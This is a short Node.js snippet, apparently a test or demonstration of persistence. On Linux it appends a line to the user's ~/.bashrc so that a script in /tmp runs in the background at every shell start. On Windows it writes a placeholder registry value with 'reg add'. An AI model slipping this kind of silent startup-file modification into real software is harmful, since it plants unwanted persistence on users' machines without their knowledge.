const fs = require("fs"), os = require("os");
if (process.platform === "linux") {
  fs.appendFileSync(os.homedir() + "/.bashrc", "\nnode /tmp/marker.js &\n");
} else if (process.platform === "win32") {
  require("child_process").execSync("reg add HKCU\\Software\\Example /v Marker /d 1 /f");
}
